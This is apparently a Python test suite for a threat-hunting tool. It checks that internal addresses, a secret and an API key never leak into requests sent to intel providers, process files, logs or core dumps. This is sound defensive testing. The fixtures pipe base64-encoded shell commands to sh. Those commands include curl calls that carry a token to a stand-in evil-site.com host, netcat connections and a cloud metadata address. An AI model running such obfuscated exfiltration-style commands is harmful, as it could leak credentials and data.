# SPDX-License-Identifier: GPL-3.0-or-later
"""What is inside is never asked about, and keys go nowhere else."""

import base64
import os
import random
import re
import signal
import socket
import subprocess
import time

from asking import KEY, ask, write_config
from late import Pair, tidily
from server import Capture, Rogue
from suite import AUHUNT, ROOT, environment

SECRET = "s3cr3t"


def indicators(rng):
    """(what nobody outside may see, what may be asked about and how)."""
    inside, outside = [], {}
    for n in range(400):
        inside += [
            "10.%d.%d.%d" % (n % 256, rng.randrange(256), 1),
            "192.168.%d.7" % (n % 256), "172.%d.0.9" % rng.randrange(16, 32),
            "100.%d.1.1" % rng.randrange(64, 128), "169.254.169.%d" % (n % 256),
            "fd00::%x" % n, "fe80::%x" % n,
            "db%d.prod.internal" % n, "host%d.corp" % n, "printer%d.local" % n,
            "http://build%d.lan/x" % n,
            "http://10.1.%d.2:8080/%s" % (n % 256, SECRET)]
        outside["http://user:%s@c%d.evil-site.com/x?token=%s#%s" % (
            SECRET, n, SECRET, SECRET)] = "http://c%d.evil-site.com/x" % n
    return inside, outside


def nothing_inside(nginx):
    """5,200 indicators, of which most are nobody's business."""
    inside, outside = indicators(random.Random(6))
    nginx.start([])
    base = "https://localhost:%d" % nginx.port
    everything = inside + list(outside)
    random.Random(7).shuffle(everything)
    for at in range(0, len(everything), 1000):
        ask(nginx, ["otx per_minute=0 url=" + base,
                    "pulsedive per_minute=0 per_day=0 url=" + base],
            everything[at:at + 1000])
    asked = nginx.asked()
    if len(asked) != 2 * len(outside):
        yield "%d requests, want %d" % (len(asked), 2 * len(outside))
    words = set(SECRET.split()) | {"10.", "192.168.", "internal", "corp",
                                   "local/", ".lan", "fd00", "fe80"}
    for one in asked:
        line = one["uri"] + one["body"]
        for word in words:
            if word in line.replace(".evil-site.com", ""):
                yield "asked: %s" % line


# As many at a time as the engine has questions for.
COMMANDS, CHUNK = 10000, 80
# What a request to outside must not have, but for the provider's own name.
INSIDE = re.compile(
    rb"s3cr3t|\.internal|\.corp|\.local\b|\.lan\b|(?<![0-9.])(?:10|127)\.\d+\."
    rb"|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|100\.(?:6[4-9]|[7-9]\d|1[01]\d|"
    rb"12[0-7])\.|169\.254\.|f[cd][0-9a-f]{2}(?::|%3a)|fe80(?::|%3a)", re.I)


def secretive(n):
    """An argv that hides one address outside among much that is inside."""
    a, b = n >> 8, n & 255
    url = "http://user:%s@c%d.evil-site.com/x?token=%s" if n % 2 else \
        "http://c%.0s%d.evil-site.com/x?id=%s"
    words = ["curl %s#%s" % (url % (SECRET, n, SECRET), SECRET),
             "psql -h db%d.prod.internal" % n, "ssh root@host%d.corp" % n,
             "ping printer%d.local" % n, "nc 10.%d.%d.1 443" % (a, b),
             "curl http://10.1.%d.2:8080/%s" % (b, SECRET),
             "nc 172.%d.0.9 80" % (16 + n % 16), "nc 192.168.%d.7 80" % b,
             "curl http://build%d.lan/%s" % (n, SECRET),
             "nc 100.%d.1.1 1" % (64 + n % 64), "nc fd00::%x 1" % n,
             "curl http://169.254.169.254/%s" % SECRET,
             "nc %s 1" % socket.gethostname()]
    # The one outside is the first, the last, and all between.
    words.insert(n % len(words), words.pop(0))
    return [b"sh", b"-c", b"echo %s | base64 -d | sh" % base64.b64encode(
        "; ".join(words).encode())]


def files_of(pid):
    """What is to be read of a process, but for its memory, which only root
    reaches while it lives."""
    for name in ("auxv", "cgroup", "cmdline", "comm", "environ", "io", "limits",
                 "maps", "mountinfo", "sched", "smaps", "stack", "stat",
                 "status", "wchan"):
        try:
            with open("/proc/%d/%s" % (pid, name), "rb") as file:
                yield name, file.read()
        except OSError:
            continue


def count(path, what):
    """Lines of a file that have it. The file is large: what this process keeps
    in memory is counted as that of those it starts."""
    with open(path, "rb") as file:
        return sum(what in line for line in file)


def capture(nginx):
    """Ten thousand commands full of what is inside: the requests that come of
    them have none of it, and the key is in them and nowhere else."""
    outside = Capture(nginx.dir, rb"hostname/c(\d+)\.evil-site")
    pair = Pair(nginx, ["otx key={file} types=url,dns,ipv4,ipv6 per_minute=0 "
                        "url=https://localhost:%d" % outside.port],
                state=nginx.path("capture.db"), core=True)
    # Of each the URL, without what nobody is to know.
    for n in range(0, COMMANDS, CHUNK):
        pair.give(*map(secretive, range(n, n + CHUNK)))
        pair.wait(lambda: len(outside.found) >= n + CHUNK, "requests")
    lines = pair.wait(lambda: count(pair.log, b'"evt":"exec"') >= COMMANDS and
                      count(pair.log, b'"evt":"exec"'), "lines")
    urls = [head for head in outside.heads if b"evil-site.com%2Fx/" in head]
    if len(outside.found) != COMMANDS or lines != COMMANDS:
        yield "%d lines, %d asked about" % (lines, len(outside.found))
    if not COMMANDS * 0.4 < len(urls):
        yield "%d URLs" % len(urls)
    for head in outside.heads:
        found = INSIDE.search(re.sub(rb"\r\nHost: localhost:\d+", b"", head))
        if found:
            yield "%r: %r" % (found[0], head)
        if head.count(KEY.encode()) != 1:
            yield "the key: %r" % head
    if outside.names - {"localhost"}:
        yield "names: %s" % outside.names
    pair.plugin.send_signal(signal.SIGUSR1)
    pair.wait(lambda: count(pair.log, b'"evt":"status"'), "status line")
    for process in (pair.plugin, pair.intel):
        for name, text in files_of(process.pid):
            if KEY.encode() in text:
                yield "the key is in %s of %s" % (name, process.args[0])
    # With a limit that allows cores it leaves none.
    os.kill(pair.intel.pid, signal.SIGSEGV)
    status = os.waitpid(pair.intel.pid, 0)[1]
    if not os.WIFSIGNALED(status) or os.WCOREDUMP(status):
        yield "a core: status %#x" % status
    said = pair.intel.stderr.read()
    pair.intel.stderr.close()
    pair.intel = None
    pair.end()
    outside.stop()
    if KEY.encode() in said or count(pair.log, KEY.encode()) or count(
            nginx.path("capture.db"), KEY.encode()):
        yield "the key is in a log, a line or the state"


def rows(nginx):
    """hunt.d's never.conf."""
    folder = nginx.path("hunt.d")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "never.conf"), "w",
              encoding="utf-8") as file:
        file.write("never our-company.com\nnever 9.9.0.0/16\n")
    os.chmod(os.path.join(folder, "never.conf"), 0o644)
    nginx.start([])
    answers, _ = ask(
        nginx, ["otx url=https://localhost:%d" % nginx.port],
        ["vpn.our-company.com", "9.9.1.1", "9.8.1.1"],
        hunt_dir=folder)
    if [("severity" in one) for one in answers] != [False, False, True]:
        yield "%s" % answers
    if len(nginx.asked()) != 1:
        yield "%d requests" % len(nginx.asked())


def key_stays(nginx):
    """While a question is under way the key is in no argument, no environment
    and no other file of /proc that is text."""
    rogue = Rogue(nginx.dir, lambda tls: time.sleep(5))
    path = write_config(nginx, ["otx key={file} timeout_s=4 "
                                "url=https://localhost:%d" % rogue.port])
    process = subprocess.Popen(
        [AUHUNT, "intel", "-c", path, "8.8.4.4"], cwd=ROOT, env=environment(),
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    end = time.monotonic() + 5
    while not rogue.requests and time.monotonic() < end:
        time.sleep(0.01)
    found = []
    for name in ("cmdline", "environ", "status", "maps", "stat"):
        with open("/proc/%d/%s" % (process.pid, name), "rb") as file:
            if KEY.encode() in file.read():
                found.append(name)
    out = process.communicate(timeout=30)[0]
    rogue.stop()
    if not rogue.requests:
        yield "nothing was asked"
    if found or KEY.encode() in out:
        yield "the key is in %s" % (found or "the output")


def key_of_everybody(nginx):
    """A key that others may read is not used."""
    nginx.start([])
    open_key = nginx.path("open.key")
    with open(open_key, "w", encoding="utf-8") as file:
        file.write(KEY)
    os.chmod(open_key, 0o644)
    answers, said = ask(nginx, ["crowdsec key=%s url=https://localhost:%d" % (
        open_key, nginx.port)], ["8.8.4.4"])
    if nginx.asked() or "severity" in answers[0]:
        yield "it was asked"
    if "chmod 400" not in said or "crowdsec is not asked" not in said:
        yield "it said: %s" % said


def cases():
    yield "privacy/nothing-inside", nothing_inside
    yield "privacy/capture", tidily(capture)
    yield "privacy/rows", rows
    yield "privacy/key-stays", key_stays
    yield "privacy/key-of-everybody", key_of_everybody
